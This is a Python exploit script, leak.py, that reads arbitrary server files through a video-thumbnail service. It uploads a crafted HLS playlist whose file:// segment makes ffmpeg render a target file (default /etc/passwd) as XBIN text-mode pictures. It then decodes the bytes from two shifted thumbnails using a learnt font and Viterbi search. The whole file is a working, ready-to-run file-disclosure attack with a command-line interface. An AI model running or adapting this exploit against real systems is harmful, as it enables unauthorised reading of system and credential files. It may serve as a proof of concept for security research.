# SPDX-License-Identifier: Apache-2.0
"""Reads a file of the server through its video converter, and decodes it from the pictures.

The "video" is a playlist of two segments: the header of an XBIN text-mode picture, then the secret
file. ffmpeg plays them as one stream and draws the secret as text: of every two bytes the first is
a character and the second its colours (low half: ink, high half: paper). A cell with ink and paper
tells both bytes; a space, or ink on paper of the same colour, leaves several possible. A second
picture, shifted by one byte, pairs each byte with its other neighbour. Both together make a chain of
pairs, and the most text-like way along the chain is the secret.

The font is ffmpeg's own. It is not copied here but learnt, by having ffmpeg draw all characters.

    leak.py URL [--secret FILE] [--bytes N] [--keep DIR]     exit code: 0 read something, 1 nothing, 2 failed
"""
from __future__ import annotations

import argparse
import base64
import collections
import itertools
import pathlib
import struct
import subprocess
import sys

import client

# ffmpeg plays text at the speed of an old terminal: one frame is the next 240 bytes.
FRAME_BYTES = 240
COLUMNS = 40  # × 8 pixels = the 320 of the thumbnail, so that it is not scaled
GLYPH_WIDTH, GLYPH_HEIGHT = 8, 16
SHIFT = b"X"  # any character with ink

Cell = tuple[tuple[bool, ...], bytes, bytes]  # which pixels differ from the first one, its colour, the other


def strangeness(byte: int) -> int:
    """How little a byte is expected in a text. A cell never drawn is black, and so is a 0.

    It decides only what the pictures leave open: a byte after a space and before one of "3DUfw.
    """
    character = chr(byte)
    if " " <= character <= "~":
        return 0 if character.isalnum() or character in " :/" else 1
    return {"\0": 2, "\n": 3, "\t": 4}.get(character, 20)


def xbin_header(columns: int, rows: int) -> bytes:
    return b"XBIN\x1a" + struct.pack("<HHBB", columns, rows, GLYPH_HEIGHT, 0)


def playlist(secret: str, offset: int, shift: bytes) -> bytes:
    """FRAME_BYTES of the secret from an offset, after the bytes of `shift`."""
    header = xbin_header(COLUMNS, FRAME_BYTES // 2 // COLUMNS) + shift
    return "\n".join([
        "#EXTM3U", "#EXT-X-MEDIA-SEQUENCE:0",
        "#EXTINF:1.0,", "data:application/octet-stream;base64," + base64.b64encode(header).decode(),
        "#EXTINF:1.0,", f"#EXT-X-BYTERANGE:{1 << 30}@{offset}", f"file://{secret}",
        "#EXT-X-ENDLIST", ""]).encode()


def cells_of(image: bytes, columns: int, *options: str) -> list[Cell]:
    """Has ffmpeg unpack a picture into pixels, and cuts them into cells."""
    command = ["ffmpeg", "-nostdin", "-loglevel", "error", *options, "-i", "pipe:0", "-frames:v", "1",
               "-f", "rawvideo", "-pix_fmt", "rgb24", "pipe:1"]
    pixels = subprocess.run(command, input=image, stdout=subprocess.PIPE, check=True,
                            timeout=client.REQUEST_SECONDS).stdout
    stride = columns * GLYPH_WIDTH * 3
    cells = []
    for top in range(0, len(pixels) - stride * GLYPH_HEIGHT + 1, stride * GLYPH_HEIGHT):
        for left in range(0, stride, GLYPH_WIDTH * 3):
            cell = [pixels[at:at + 3]
                    for row in range(top + left, top + left + stride * GLYPH_HEIGHT, stride)
                    for at in range(row, row + GLYPH_WIDTH * 3, 3)]
            other = next((pixel for pixel in cell if pixel != cell[0]), cell[0])
            cells.append((tuple(pixel != cell[0] for pixel in cell), cell[0], other))
    return cells


class Font:
    """Which two bytes a cell can stand for, learnt from a picture that ffmpeg drew."""

    def __init__(self) -> None:
        text = b"".join(bytes([character, 0x0F]) for character in range(256))
        papers = b"".join(bytes([0x20, colour << 4]) for colour in range(16))
        picture = xbin_header(16, 17) + text + papers
        cells = cells_of(picture, 16, "-f", "xbin", "-linespeed", "1000000")  # all of it in the first frame
        colours = [cell[1] for cell in cells[256:]]
        if len(set(colours)) != 16:
            raise ValueError("ffmpeg did not draw the calibration picture")
        self.pairs: dict[Cell, list[tuple[int, int]]] = collections.defaultdict(list)
        for character, (shape, first, _) in enumerate(cells[:256]):
            for attribute in range(256):
                pair = [colours[attribute >> 4], colours[attribute & 15]]
                if first == colours[15]:  # most glyphs begin with paper, this one with ink
                    pair.reverse()
                if not any(shape) or pair[0] == pair[1]:
                    cell = ((False,) * len(shape), pair[0], pair[0])
                else:
                    cell = (shape, pair[0], pair[1])
                self.pairs[cell].append((character, attribute))


def decode(font: Font, plain: list[Cell], shifted: list[Cell]) -> bytes:
    """The cheapest text that draws both pictures (Viterbi's way: the best text for each last byte)."""
    best: dict[int, tuple[int, bytes]] = {SHIFT[0]: (0, SHIFT)}
    for cell in itertools.chain.from_iterable(zip(shifted, plain)):
        if cell not in font.pairs:
            raise ValueError("the picture is not text mode")
        further: dict[int, tuple[int, bytes]] = {}
        for character, attribute in font.pairs[cell]:
            if character not in best:
                continue
            cost, text = best[character]
            cost += strangeness(attribute)
            if attribute not in further or cost < further[attribute][0]:
                further[attribute] = (cost, text + bytes([attribute]))
        if not further:
            raise ValueError("the two pictures show different texts")
        best = further
    return min(best.values())[1][len(SHIFT):]


def read_secret(url: str, secret: str, size: int, keep: pathlib.Path | None = None) -> bytes:
    """Up to `size` bytes of a file of the server; empty when the pictures don't show it."""
    font = Font()
    text = b""
    while len(text) < size:
        pictures = []
        for shift in (b"", SHIFT):
            image = client.thumbnail(url, "video.avi", playlist(secret, len(text), shift))
            if keep:
                (keep / f"picture-{len(text)}-{len(shift)}.png").write_bytes(image)
            pictures.append(cells_of(image, COLUMNS))
        # The shifted picture ends one byte earlier, so the last byte is left to the next round.
        part = decode(font, *pictures)[:FRAME_BYTES - 1].rstrip(b"\0")
        text += part
        if len(part) < FRAME_BYTES - 1:
            break
    return text[:size]


def main() -> int:
    parser = argparse.ArgumentParser(description="Read a file of the server through its video converter.")
    parser.add_argument("url")
    parser.add_argument("--secret", default="/etc/passwd")
    parser.add_argument("--bytes", type=int, default=FRAME_BYTES - 1)
    parser.add_argument("--keep", type=pathlib.Path, help="directory for the pictures")
    options = parser.parse_args()
    try:
        text = read_secret(options.url, options.secret, options.bytes, options.keep)
    except client.NoPicture as refused:
        print(f"leak: no picture: {refused}", file=sys.stderr)
        return 1
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        print(f"leak: {error}", file=sys.stderr)
        return 2
    if not text:
        print("leak: the picture shows nothing", file=sys.stderr)
        return 1
    print(text.decode("ascii", errors="replace").replace("\0", "·"), end="" if text.endswith(b"\n") else "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
